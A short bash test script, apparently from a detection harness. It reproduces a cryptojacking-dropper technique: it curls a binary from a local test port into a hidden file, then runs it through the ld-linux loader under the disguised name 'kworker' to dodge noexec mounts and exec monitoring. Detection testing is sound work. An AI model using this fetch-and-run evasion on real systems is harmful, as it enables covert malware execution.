#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1218 System Binary Proxy Execution (the dynamic loader)
# reproduces: loaders that run a downloaded ELF through ld.so to dodge noexec mounts and exec-path monitoring (the `/lib64/ld-linux-x86-64.so.2 ./payload` trick of cryptojacking droppers such as TeamTNT's and Kinsing's), here in a build step
# expect: dropped-file-executed ^ld-linux
# exec-borne: yes
#
# No chmod, no exec of the file itself: the loader maps it. The loader's
# path is asked of the system, as a dropper does on an unknown host.
set -u

WORK=$(mktemp -d "${BW_ATTACK_TMP:?}/cache-XXXXXX")
trap 'rm -rf "$WORK"' EXIT

loader=$(ldd /bin/sh | awk '/ld-linux/ { print $1 }')
[ -n "$loader" ] || exit 77

curl -fsSL --connect-timeout 5 -o "$WORK/.cache-index" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" &&
	cd "$WORK" && "$loader" --argv0 kworker ./.cache-index
